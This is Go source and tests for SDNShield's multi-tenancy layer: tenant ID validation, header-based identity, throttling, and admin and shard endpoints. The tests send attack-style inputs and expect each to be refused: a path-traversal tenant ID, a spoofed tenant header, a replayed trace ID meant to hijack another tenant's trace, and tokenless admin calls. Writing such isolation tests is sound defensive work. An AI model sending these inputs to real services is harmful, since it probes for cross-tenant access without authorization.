		return &ThrottleError{Tenant: t.ID, Path: "install", RetryAfter: retry}
	}
	t.touch()
	return nil
}

// Info returns the tenant's listing entry.
func (t *Tenant) Info() Info {
	return Info{
		ID:        t.ID,
		State:     t.State(),
		Shard:     t.shard,
		Pinned:    t.pinned.Load(),
		Apps:      len(t.mkt.Snapshot()),
		Calls:     t.met.calls.Value(),
		Throttled: t.met.throttledCalls.Value() + t.met.throttledInstalls.Value(),
		CreatedAt: t.created,
		LastTouch: time.Unix(0, t.lastTouch.Load()),
	}
}

// LatencyObjective builds a per-tenant latency SLO over the shared
// per-tenant call histogram: p(call latency < threshold) >= target.
// Register it in an obs.Engine (or the default one) to get the tenant's
// own burn-rate state on /slo.
func (t *Tenant) LatencyObjective(threshold time.Duration, target float64) obs.Objective {
	return obs.LatencyObjectiveLabeled(
		"tenant_call_latency:"+t.ID,
		fmt.Sprintf("p(mediated call < %v) for tenant %s", threshold, t.ID),
		t.mgr.cfg.Registry, "sdnshield_tenant_call_seconds", "tenant", t.met.label,
		threshold, target)
}

// close refuses new holders, waits for in-flight ones to drain, then
// shuts the tenant's market and job manager down. Idempotent via their
// own Close guards (a concurrent second close also waits for drain).
func (t *Tenant) close() {
	t.lifeMu.Lock()
	t.closing = true
	for t.refs > 0 {
		t.drained.Wait()
	}
	t.lifeMu.Unlock()
	t.mkt.Close()
	_ = t.jm.Close()
}

// ---------------------------------------------------------------------------
// Runtime namespacing

// scopedRuntime prefixes every app name with "tenant/" before touching
// the shared runtime, so per-app state on shields, the recorder and the
// audit journal is attributable to its tenant and two tenants' same-name
// apps never collide.
type scopedRuntime struct {
	rt     market.Runtime
	prefix string
}

// ScopedRuntime wraps a shared runtime in a tenant's namespace.
func ScopedRuntime(rt market.Runtime, tenant string) market.Runtime {
	return &scopedRuntime{rt: rt, prefix: tenant + "/"}
}

func (s *scopedRuntime) SetPermissions(app string, set *core.Set) {
	s.rt.SetPermissions(s.prefix+app, set)
}

func (s *scopedRuntime) AppHealth(app string) (isolation.Health, bool) {
	return s.rt.AppHealth(s.prefix + app)
}

// SetBudget forwards soft budgets when the underlying runtime accounts
// them; otherwise it is a no-op (the wrapper always satisfies
// market.BudgetRuntime so the namespace applies when it matters).
func (s *scopedRuntime) SetBudget(app string, b core.Budget) {
	if br, ok := s.rt.(market.BudgetRuntime); ok {
		br.SetBudget(s.prefix+app, b)
	}
}

// SetProvenance forwards reconciliation provenance under the tenant
// namespace when the underlying runtime records it.
func (s *scopedRuntime) SetProvenance(app string, notes []string) {
	if pr, ok := s.rt.(market.ProvenanceRuntime); ok {
		pr.SetProvenance(s.prefix+app, notes)
	}
}
