// Package tenant is SDNShield's multi-tenancy subsystem: one controller
// process hosting thousands of isolated tenants, each with its own
// policy set, market registry, verdict cache, job queues and audit/trace
// attribution — behind a Manager owning the tenant lifecycle
// (create/suspend/evict, lazy hydration from the on-disk store, idle
// eviction with LRU and pinning).
//
// Isolation is layered:
//
//   - Namespace: every tenant runs a private market.Market over a private
//     registry and verdict cache; app names cross into shared layers
//     (shield runtimes, recorder, audit) prefixed "tenant/app", which is
//     unambiguous because market app names themselves cannot contain '/'.
//   - Scheduling: tenants are sharded across a worker pool by consistent
//     (jump) hashing over the tenant ID; inside a shard, backlogged
//     tenants are served by weighted fair queuing, so one tenant's
//     burst cannot starve its shard neighbours beyond its weight.
//   - Admission: per-tenant token buckets bound the mediated-call and
//     install rates *before* any per-call allocation happens; refusal is
//     a typed ErrTenantThrottled carrying a retry-after, surfaced as
//     HTTP 429 — hard admission, extending the soft BUDGET accounting.
//   - Observability: audit events, sampled traces, causal spans, job WAL
//     records and metric series all carry the tenant (metrics behind a
//     cardinality guard), and every introspection surface grows a
//     tenant filter plus a /t/<tenant>/... scoped view.
package tenant

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
)

// HeaderTenant is the HTTP header naming the calling tenant. Required on
// /t/<tenant>/... paths and it must agree with the path. The header is
// the deployment's authentication hand-off point: a trusted front proxy
// authenticates the caller, injects this header, and strips any
// client-supplied HeaderTenant and span.Header values before forwarding.
const HeaderTenant = "X-Sdnshield-Tenant"

// PathPrefix is the URL prefix of tenant-scoped routes: /t/<tenant>/...
const PathPrefix = "/t/"

// MaxIDLen bounds tenant IDs; longer ones are rejected at every ingress.
const MaxIDLen = 64

// Identity errors.
var (
	// ErrBadTenantID reports a tenant ID violating the charset/length
	// rules (traversal attempts included).
	ErrBadTenantID = errors.New("tenant: bad tenant id")
	// ErrTenantMismatch reports a request whose X-Sdnshield-Tenant header
	// disagrees with its /t/<tenant>/ path.
	ErrTenantMismatch = errors.New("tenant: header/path tenant mismatch")
	// ErrNoTenantHeader reports a scoped request arriving without the
	// X-Sdnshield-Tenant header — the path alone never grants access.
	ErrNoTenantHeader = errors.New("tenant: missing " + HeaderTenant + " header")
	// ErrNotAdmin reports a /tenants admin request without the configured
	// admin bearer token.
	ErrNotAdmin = errors.New("tenant: admin token required")
	// ErrUnknownTenant reports an operation on a tenant the manager
	// neither hosts nor finds in its on-disk store.
	ErrUnknownTenant = errors.New("tenant: unknown tenant")
	// ErrSuspended reports an operation on a suspended tenant.
	ErrSuspended = errors.New("tenant: suspended")
	// ErrManagerClosed reports an operation on a closed manager.
	ErrManagerClosed = errors.New("tenant: manager closed")
	// ErrTenantExists reports Create of an ID already hosted or stored.
	ErrTenantExists = errors.New("tenant: already exists")
)

// ParseID validates a tenant ID: 1..MaxIDLen characters of lowercase
// [a-z0-9._-], starting alphanumeric, with no ".." anywhere — tenant IDs
// name directories under the manager's store, so traversal sequences are
// rejected outright rather than sanitized.
func ParseID(s string) (string, error) {
	if s == "" || len(s) > MaxIDLen {
		return "", fmt.Errorf("%w: length must be 1..%d", ErrBadTenantID, MaxIDLen)
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= '0' && c <= '9':
		case (c == '.' || c == '_' || c == '-') && i > 0:
		default:
			return "", fmt.Errorf("%w: %q (lowercase [a-z0-9._-], alphanumeric first)", ErrBadTenantID, s)
		}
	}
	if strings.Contains(s, "..") {
		return "", fmt.Errorf("%w: %q contains \"..\"", ErrBadTenantID, s)
	}
	return s, nil
}

// FromRequest extracts the tenant identity of a scoped request: the
// /t/<tenant>/rest path names the tenant, the X-Sdnshield-Tenant header
// must be present and agree (the path alone is client-typed routing, the
// header is what a trusted front proxy injects after authenticating),
// and the returned rest ("/rest") is the path the tenant's own surface
// serves. The bare prefix ("/t/x" with no trailing route) maps to rest
// "/".
func FromRequest(r *http.Request) (id, rest string, err error) {
	p := r.URL.Path
	if !strings.HasPrefix(p, PathPrefix) {
		return "", "", fmt.Errorf("%w: path %q lacks %q", ErrBadTenantID, p, PathPrefix)
	}
	p = p[len(PathPrefix):]
	id, rest, _ = strings.Cut(p, "/")
	if id, err = ParseID(id); err != nil {
		return "", "", err
	}
	switch h := r.Header.Get(HeaderTenant); {
	case h == "":
		return "", "", fmt.Errorf("%w (path %q)", ErrNoTenantHeader, id)
	case h != id:
		return "", "", fmt.Errorf("%w: header %q, path %q", ErrTenantMismatch, h, id)
	}
	return id, "/" + rest, nil
}
