package tenant

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"sdnshield/internal/market"
)

const testPolicy = `
LET Bound = { PERM pkt_in_event PERM read_statistics PERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0 }
`

func genKey(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

// do runs one request against the scoped handler.
func do(t *testing.T, h http.Handler, method, path string, body interface{}, hdr map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	var rd *bytes.Reader
	if body != nil {
		raw, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(raw)
	} else {
		rd = bytes.NewReader(nil)
	}
	r := httptest.NewRequest(method, path, rd)
	for k, v := range hdr {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

// installApp drives a signed release through a tenant's scoped market
// surface (async install job → pending → approve) and waits for the
// given status.
func installApp(t *testing.T, h http.Handler, tenant, app, version string, priv ed25519.PrivateKey) {
	t.Helper()
	sr := market.Sign(market.Release{
		Name: app, Vendor: "acme", Version: version,
		Manifest: "PERM pkt_in_event\nPERM read_statistics",
	}, priv)
	w := do(t, h, "POST", "/t/"+tenant+"/market/install", sr, nil)
	if w.Code != http.StatusAccepted {
		t.Fatalf("install = %d: %s", w.Code, w.Body.String())
	}
	// A clean verdict activates directly; a repaired one parks pending
	// and needs sign-off.
	if st := waitStatus(t, h, tenant, app, "pending", "active"); st == "pending" {
		w = do(t, h, "POST", "/t/"+tenant+"/market/approve", map[string]string{"app": app}, nil)
		if w.Code != http.StatusOK {
			t.Fatalf("approve = %d: %s", w.Code, w.Body.String())
		}
	}
	waitStatus(t, h, tenant, app, "active")
}

func waitStatus(t *testing.T, h http.Handler, tenant, app string, statuses ...string) string {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		w := do(t, h, "GET", "/t/"+tenant+"/market/apps", nil, nil)
		var snaps []market.AppSnapshot
		if err := json.Unmarshal(w.Body.Bytes(), &snaps); err == nil {
			for _, s := range snaps {
				for _, status := range statuses {
					if s.App == app && string(s.Status) == status {
						return status
					}
				}
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("app %s/%s never reached %v: %s", tenant, app, statuses, w.Body.String())
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func TestScopedHTTPSurface(t *testing.T) {
	m := newTestManager(t, Config{Dir: t.TempDir(), PolicySrc: testPolicy})
	scoped := &scopedHandler{m: m}
	admin := &adminHandler{m: m}

	// Admin: create, list.
	w := do(t, admin, "POST", "/tenants", adminOp{Op: "create", Tenant: "acme"}, nil)
	if w.Code != http.StatusCreated {
		t.Fatalf("admin create = %d: %s", w.Code, w.Body.String())
	}
	w = do(t, admin, "GET", "/tenants", nil, nil)
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), `"acme"`) {
		t.Fatalf("admin list = %d: %s", w.Code, w.Body.String())
	}
	w = do(t, admin, "POST", "/tenants", adminOp{Op: "create", Tenant: "acme"}, nil)
	if w.Code != http.StatusConflict {
		t.Fatalf("duplicate create = %d", w.Code)
	}
	w = do(t, admin, "POST", "/tenants", adminOp{Op: "flip", Tenant: "acme"}, nil)
	if w.Code != http.StatusBadRequest {
		t.Fatalf("unknown op = %d", w.Code)
	}

	// Identity enforcement at the scoped ingress.
	if w = do(t, scoped, "GET", "/t/ghost/market/apps", nil, nil); w.Code != http.StatusNotFound {
		t.Fatalf("unknown tenant = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/../market/apps", nil, nil); w.Code != http.StatusBadRequest {
		t.Fatalf("traversal id = %d", w.Code)
	}
	w = do(t, scoped, "GET", "/t/acme/market/apps", nil, map[string]string{HeaderTenant: "evil"})
	if w.Code != http.StatusBadRequest {
		t.Fatalf("header mismatch = %d", w.Code)
	}
	w = do(t, scoped, "GET", "/t/acme/market/apps", nil, map[string]string{HeaderTenant: "acme"})
	if w.Code != http.StatusOK {
		t.Fatalf("agreeing header = %d: %s", w.Code, w.Body.String())
	}

	// The tenant's market works end to end through the scoped surface.
	pub, priv := genKey(t)
	at, err := m.Get("acme")
	if err != nil {
		t.Fatal(err)
	}
	if err := at.Market().Registry().TrustVendor("acme", pub); err != nil {
		t.Fatal(err)
	}
	installApp(t, scoped, "acme", "sensor", "1.0.0", priv)

	// Scoped snapshot, jobs and audit answer for this tenant.
	if w = do(t, scoped, "GET", "/t/acme/", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("tenant root = %d", w.Code)
	}
	var info Info
	if err := json.Unmarshal(do(t, scoped, "GET", "/t/acme", nil, nil).Body.Bytes(), &info); err != nil || info.ID != "acme" || info.Apps != 1 {
		t.Fatalf("tenant snapshot = %+v, %v", info, err)
	}
	if w = do(t, scoped, "GET", "/t/acme/jobs", nil, nil); w.Code != http.StatusOK ||
		!strings.Contains(w.Body.String(), "market.install") {
		t.Fatalf("scoped jobs = %d: %s", w.Code, w.Body.String())
	}
	waitAuditEvent(t, scoped, "acme", "install")

	// Suspension closes the whole scoped surface.
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "suspend", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("suspend = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusServiceUnavailable {
		t.Fatalf("suspended scoped GET = %d", w.Code)
	}
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "resume", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("resume = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("resumed scoped GET = %d", w.Code)
	}

	// Evict + rehydrate through HTTP: the market store was persisted, so
	// the app is still there.
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "evict", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("evict = %d: %s", w.Code, w.Body.String())
	}
	if m.Resident() != 0 {
		t.Fatal("evict left tenant resident")
	}
}

func waitAuditEvent(t *testing.T, scoped http.Handler, tenant, op string) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		w := do(t, scoped, "GET", "/t/"+tenant+"/audit", nil, nil)
		if w.Code == http.StatusOK && strings.Contains(w.Body.String(), fmt.Sprintf("%q", op)) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("no %q audit event for %s: %s", op, tenant, w.Body.String())
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func TestScopedHTTPInstallThrottle(t *testing.T) {
	m := newTestManager(t, Config{PolicySrc: testPolicy})
	scoped := &scopedHandler{m: m}
	if _, err := m.CreateWith("acme", AdmissionConfig{
		InstallsPerSec: 0.0001, InstallBurst: 1,
	}); err != nil {
		t.Fatal(err)
	}

	body := map[string]string{"digest": strings.Repeat("0", 64)}
	// First install spends the burst token (the digest is unknown, but
	// admission runs before the market ever sees the request body).
	w := do(t, scoped, "POST", "/t/acme/market/install", body, nil)
	if w.Code == http.StatusTooManyRequests {
		t.Fatalf("burst install throttled: %s", w.Body.String())
	}
	w = do(t, scoped, "POST", "/t/acme/market/install", body, nil)
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("drained install = %d, want 429", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("429 without Retry-After")
	}
	var refusal struct {
		Tenant  string `json:"tenant"`
		Path    string `json:"path"`
		RetryMS int64  `json:"retry_after_ms"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &refusal); err != nil ||
		refusal.Tenant != "acme" || refusal.Path != "install" || refusal.RetryMS <= 0 {
		t.Fatalf("throttle body = %+v, %v: %s", refusal, err, w.Body.String())
	}

	// Reads are not install-gated.
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("read while install-throttled = %d", w.Code)
	}
}
