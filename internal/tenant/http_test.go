package tenant

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"sdnshield/internal/market"
	"sdnshield/internal/obs/span"
)

const testPolicy = `
LET Bound = { PERM pkt_in_event PERM read_statistics PERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0 }
`

func genKey(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

// do runs one request against the scoped handler.
func do(t *testing.T, h http.Handler, method, path string, body interface{}, hdr map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	var rd *bytes.Reader
	if body != nil {
		raw, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(raw)
	} else {
		rd = bytes.NewReader(nil)
	}
	r := httptest.NewRequest(method, path, rd)
	// Scoped routes require the tenant header (a trusted proxy's job in
	// production); derive it from the path so every call site doesn't
	// repeat it. An explicit hdr entry overrides; "" deletes.
	if strings.HasPrefix(path, PathPrefix) {
		id, _, _ := strings.Cut(strings.TrimPrefix(path, PathPrefix), "/")
		if i := strings.IndexAny(id, "?#"); i >= 0 {
			id = id[:i]
		}
		r.Header.Set(HeaderTenant, id)
	}
	for k, v := range hdr {
		if v == "" {
			r.Header.Del(k)
			continue
		}
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

// installApp drives a signed release through a tenant's scoped market
// surface (async install job → pending → approve) and waits for the
// given status.
func installApp(t *testing.T, h http.Handler, tenant, app, version string, priv ed25519.PrivateKey) {
	t.Helper()
	sr := market.Sign(market.Release{
		Name: app, Vendor: "acme", Version: version,
		Manifest: "PERM pkt_in_event\nPERM read_statistics",
	}, priv)
	w := do(t, h, "POST", "/t/"+tenant+"/market/install", sr, nil)
	if w.Code != http.StatusAccepted {
		t.Fatalf("install = %d: %s", w.Code, w.Body.String())
	}
	// A clean verdict activates directly; a repaired one parks pending
	// and needs sign-off.
	if st := waitStatus(t, h, tenant, app, "pending", "active"); st == "pending" {
		w = do(t, h, "POST", "/t/"+tenant+"/market/approve", map[string]string{"app": app}, nil)
		if w.Code != http.StatusOK {
			t.Fatalf("approve = %d: %s", w.Code, w.Body.String())
		}
	}
	waitStatus(t, h, tenant, app, "active")
}

func waitStatus(t *testing.T, h http.Handler, tenant, app string, statuses ...string) string {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		w := do(t, h, "GET", "/t/"+tenant+"/market/apps", nil, nil)
		var snaps []market.AppSnapshot
		if err := json.Unmarshal(w.Body.Bytes(), &snaps); err == nil {
			for _, s := range snaps {
				for _, status := range statuses {
					if s.App == app && string(s.Status) == status {
						return status
					}
				}
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("app %s/%s never reached %v: %s", tenant, app, statuses, w.Body.String())
		}
		time.Sleep(2 * time.Millisecond)
	}
}

func TestScopedHTTPSurface(t *testing.T) {
	m := newTestManager(t, Config{Dir: t.TempDir(), PolicySrc: testPolicy})
	scoped := &scopedHandler{m: m}
	admin := &adminHandler{m: m}

	// Admin: create, list.
	w := do(t, admin, "POST", "/tenants", adminOp{Op: "create", Tenant: "acme"}, nil)
	if w.Code != http.StatusCreated {
		t.Fatalf("admin create = %d: %s", w.Code, w.Body.String())
	}
	w = do(t, admin, "GET", "/tenants", nil, nil)
	if w.Code != http.StatusOK || !strings.Contains(w.Body.String(), `"acme"`) {
		t.Fatalf("admin list = %d: %s", w.Code, w.Body.String())
	}
	w = do(t, admin, "POST", "/tenants", adminOp{Op: "create", Tenant: "acme"}, nil)
	if w.Code != http.StatusConflict {
		t.Fatalf("duplicate create = %d", w.Code)
	}
	w = do(t, admin, "POST", "/tenants", adminOp{Op: "flip", Tenant: "acme"}, nil)
	if w.Code != http.StatusBadRequest {
		t.Fatalf("unknown op = %d", w.Code)
	}

	// Identity enforcement at the scoped ingress.
	if w = do(t, scoped, "GET", "/t/ghost/market/apps", nil, nil); w.Code != http.StatusNotFound {
		t.Fatalf("unknown tenant = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/../market/apps", nil, nil); w.Code != http.StatusBadRequest {
		t.Fatalf("traversal id = %d", w.Code)
	}
	w = do(t, scoped, "GET", "/t/acme/market/apps", nil, map[string]string{HeaderTenant: "evil"})
	if w.Code != http.StatusBadRequest {
		t.Fatalf("header mismatch = %d", w.Code)
	}
	w = do(t, scoped, "GET", "/t/acme/market/apps", nil, map[string]string{HeaderTenant: ""})
	if w.Code != http.StatusUnauthorized {
		t.Fatalf("missing header = %d, want 401", w.Code)
	}
	w = do(t, scoped, "GET", "/t/acme/market/apps", nil, map[string]string{HeaderTenant: "acme"})
	if w.Code != http.StatusOK {
		t.Fatalf("agreeing header = %d: %s", w.Code, w.Body.String())
	}

	// The tenant's market works end to end through the scoped surface.
	pub, priv := genKey(t)
	at, err := m.Get("acme")
	if err != nil {
		t.Fatal(err)
	}
	if err := at.Market().Registry().TrustVendor("acme", pub); err != nil {
		t.Fatal(err)
	}
	installApp(t, scoped, "acme", "sensor", "1.0.0", priv)

	// Scoped snapshot, jobs and audit answer for this tenant.
	if w = do(t, scoped, "GET", "/t/acme/", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("tenant root = %d", w.Code)
	}
	var info Info
	if err := json.Unmarshal(do(t, scoped, "GET", "/t/acme", nil, nil).Body.Bytes(), &info); err != nil || info.ID != "acme" || info.Apps != 1 {
		t.Fatalf("tenant snapshot = %+v, %v", info, err)
	}
	if w = do(t, scoped, "GET", "/t/acme/jobs", nil, nil); w.Code != http.StatusOK ||
		!strings.Contains(w.Body.String(), "market.install") {
		t.Fatalf("scoped jobs = %d: %s", w.Code, w.Body.String())
	}
	waitAuditEvent(t, scoped, "acme", "install")

	// A malformed corr filter is refused, never silently widened to the
	// tenant's whole audit slice.
	if w = do(t, scoped, "GET", "/t/acme/audit?corr=abc", nil, nil); w.Code != http.StatusBadRequest {
		t.Fatalf("bad corr = %d, want 400: %s", w.Code, w.Body.String())
	}

	// Suspension closes the whole scoped surface.
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "suspend", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("suspend = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusServiceUnavailable {
		t.Fatalf("suspended scoped GET = %d", w.Code)
	}
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "resume", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("resume = %d", w.Code)
	}
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("resumed scoped GET = %d", w.Code)
	}

	// Evict + rehydrate through HTTP: the market store was persisted, so
	// the app is still there.
	if w = do(t, admin, "POST", "/tenants", adminOp{Op: "evict", Tenant: "acme"}, nil); w.Code != http.StatusOK {
		t.Fatalf("evict = %d: %s", w.Code, w.Body.String())
	}
	if m.Resident() != 0 {
		t.Fatal("evict left tenant resident")
	}
}

func waitAuditEvent(t *testing.T, scoped http.Handler, tenant, op string) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		w := do(t, scoped, "GET", "/t/"+tenant+"/audit", nil, nil)
		if w.Code == http.StatusOK && strings.Contains(w.Body.String(), fmt.Sprintf("%q", op)) {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("no %q audit event for %s: %s", op, tenant, w.Body.String())
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// TestTraceHeaderCannotHijack pins the trace-ownership boundary: the
// X-Sdnshield-Trace header is client-controlled, so replaying another
// tenant's (sequential, enumerable) trace ID must neither transfer
// ownership of the trace nor materialize collector entries for bogus
// IDs.
func TestTraceHeaderCannotHijack(t *testing.T) {
	prevSpan := span.SetEnabled(true)
	defer span.SetEnabled(prevSpan)

	m := newTestManager(t, Config{PolicySrc: testPolicy})
	scoped := &scopedHandler{m: m}
	for _, id := range []string{"alpha", "bravo"} {
		if _, err := m.Create(id); err != nil {
			t.Fatal(err)
		}
	}

	// Alpha's request mints a trace tagged alpha.
	if w := do(t, scoped, "GET", "/t/alpha/market/apps", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("alpha request = %d", w.Code)
	}
	var idx struct {
		Traces []span.TraceInfo `json:"traces"`
	}
	w := do(t, scoped, "GET", "/t/alpha/trace", nil, nil)
	if err := json.Unmarshal(w.Body.Bytes(), &idx); err != nil || len(idx.Traces) == 0 {
		t.Fatalf("alpha has no retained trace: %v %s", err, w.Body.String())
	}
	stolen := idx.Traces[0].TraceID

	// Bravo replays alpha's trace ID in the header. The request succeeds
	// (a fresh bravo-tagged trace replaces the header), but alpha keeps
	// ownership and bravo still cannot read the trace.
	hdr := map[string]string{span.Header: fmt.Sprintf("%d-1-0", stolen)}
	if w := do(t, scoped, "GET", "/t/bravo/market/apps", nil, hdr); w.Code != http.StatusOK {
		t.Fatalf("bravo replay request = %d", w.Code)
	}
	if got := span.TenantOf(stolen); got != "alpha" {
		t.Fatalf("trace %d owner = %q after replay, want alpha", stolen, got)
	}
	if w := do(t, scoped, "GET", fmt.Sprintf("/t/bravo/trace/%d", stolen), nil, nil); w.Code != http.StatusNotFound {
		t.Fatalf("bravo reads alpha's trace after replay: %d %s", w.Code, w.Body.String())
	}
	if w := do(t, scoped, "GET", fmt.Sprintf("/t/alpha/trace/%d", stolen), nil, nil); w.Code != http.StatusOK {
		t.Fatalf("alpha lost its own trace: %d", w.Code)
	}

	// A bogus unseen inbound ID creates no collector entry, so a header
	// flood cannot evict legitimately retained traces.
	const bogus = uint64(1)<<62 + 12345
	hdr = map[string]string{span.Header: fmt.Sprintf("%d-1-0", bogus)}
	if w := do(t, scoped, "GET", "/t/bravo/market/apps", nil, hdr); w.Code != http.StatusOK {
		t.Fatalf("bravo bogus-header request = %d", w.Code)
	}
	if span.DefaultCollector().Trace(bogus) != nil || span.TenantOf(bogus) != "" {
		t.Fatalf("bogus inbound trace ID %d materialized a collector entry", bogus)
	}
}

// TestAdminToken gates the /tenants lifecycle API behind the configured
// bearer token.
func TestAdminToken(t *testing.T) {
	m := newTestManager(t, Config{AdminToken: "s3cret"})
	admin := &adminHandler{m: m}

	op := adminOp{Op: "create", Tenant: "acme"}
	if w := do(t, admin, "POST", "/tenants", op, nil); w.Code != http.StatusUnauthorized {
		t.Fatalf("tokenless create = %d, want 401", w.Code)
	}
	if w := do(t, admin, "GET", "/tenants", nil, nil); w.Code != http.StatusUnauthorized {
		t.Fatalf("tokenless list = %d, want 401", w.Code)
	}
	wrong := map[string]string{"Authorization": "Bearer nope"}
	if w := do(t, admin, "POST", "/tenants", op, wrong); w.Code != http.StatusUnauthorized {
		t.Fatalf("wrong token = %d, want 401", w.Code)
	}
	good := map[string]string{"Authorization": "Bearer s3cret"}
	if w := do(t, admin, "POST", "/tenants", op, good); w.Code != http.StatusCreated {
		t.Fatalf("authorized create = %d: %s", w.Code, w.Body.String())
	}
	if w := do(t, admin, "GET", "/tenants", nil, good); w.Code != http.StatusOK {
		t.Fatalf("authorized list = %d", w.Code)
	}
}

func TestScopedHTTPInstallThrottle(t *testing.T) {
	m := newTestManager(t, Config{PolicySrc: testPolicy})
	scoped := &scopedHandler{m: m}
	if _, err := m.CreateWith("acme", AdmissionConfig{
		InstallsPerSec: 0.0001, InstallBurst: 1,
	}); err != nil {
		t.Fatal(err)
	}

	body := map[string]string{"digest": strings.Repeat("0", 64)}
	// First install spends the burst token (the digest is unknown, but
	// admission runs before the market ever sees the request body).
	w := do(t, scoped, "POST", "/t/acme/market/install", body, nil)
	if w.Code == http.StatusTooManyRequests {
		t.Fatalf("burst install throttled: %s", w.Body.String())
	}
	w = do(t, scoped, "POST", "/t/acme/market/install", body, nil)
	if w.Code != http.StatusTooManyRequests {
		t.Fatalf("drained install = %d, want 429", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("429 without Retry-After")
	}
	var refusal struct {
		Tenant  string `json:"tenant"`
		Path    string `json:"path"`
		RetryMS int64  `json:"retry_after_ms"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &refusal); err != nil ||
		refusal.Tenant != "acme" || refusal.Path != "install" || refusal.RetryMS <= 0 {
		t.Fatalf("throttle body = %+v, %v: %s", refusal, err, w.Body.String())
	}

	// Reads are not install-gated.
	if w = do(t, scoped, "GET", "/t/acme/market/apps", nil, nil); w.Code != http.StatusOK {
		t.Fatalf("read while install-throttled = %d", w.Code)
	}
}

// TestShardsEndpoint gates the shard-telemetry surface behind the same
// bearer token as the lifecycle API and serves a read-only snapshot.
func TestShardsEndpoint(t *testing.T) {
	m := newTestManager(t, Config{AdminToken: "s3cret", PolicySrc: testPolicy})
	h := &shardsHandler{m: m}

	if w := do(t, h, "GET", "/tenants/shards", nil, nil); w.Code != http.StatusUnauthorized {
		t.Fatalf("tokenless shards = %d, want 401", w.Code)
	}
	good := map[string]string{"Authorization": "Bearer s3cret"}
	if w := do(t, h, "POST", "/tenants/shards", nil, good); w.Code != http.StatusMethodNotAllowed {
		t.Fatalf("POST shards = %d, want 405", w.Code)
	}

	// Drive a little work so the snapshot has non-zero counters.
	if _, err := m.Create("acme"); err != nil {
		t.Fatal(err)
	}
	tn, release, err := m.Acquire("acme")
	if err != nil {
		t.Fatal(err)
	}
	if err := tn.Do("noop", func() error { return nil }); err != nil {
		t.Fatal(err)
	}
	release()

	w := do(t, h, "GET", "/tenants/shards", nil, good)
	if w.Code != http.StatusOK {
		t.Fatalf("authorized shards = %d: %s", w.Code, w.Body.String())
	}
	var out struct {
		Shards    []ShardStat `json:"shards"`
		Imbalance float64     `json:"imbalance"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("shards body: %v: %s", err, w.Body.String())
	}
	if len(out.Shards) != m.pool.Shards() {
		t.Fatalf("snapshot has %d shards, pool has %d", len(out.Shards), m.pool.Shards())
	}
	var completed uint64
	for _, st := range out.Shards {
		completed += st.Completed
	}
	if completed == 0 {
		t.Fatalf("no completed calls in snapshot: %s", w.Body.String())
	}
	if out.Imbalance < 0 {
		t.Fatalf("imbalance = %v", out.Imbalance)
	}
}
